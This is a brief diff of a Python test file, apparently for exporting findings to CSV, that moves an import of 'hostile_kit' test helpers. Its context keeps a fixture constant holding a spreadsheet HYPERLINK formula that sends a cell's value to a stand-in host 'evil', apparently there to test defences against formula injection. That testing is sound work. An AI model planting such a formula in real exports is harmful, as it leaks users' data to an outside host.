@@ -17,10 +17,10 @@ import shutil
 from pathlib import Path
 
 import pytest
-from hostile_kit import REPO, run_cli
 
 from pe_eval_core.memo import findings_to_csv, grade_memo
 from pe_eval_core.memo.result import Finding
+from tests.helpers.hostile_kit import REPO, run_cli
 
 pytestmark = pytest.mark.timeout(180)
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
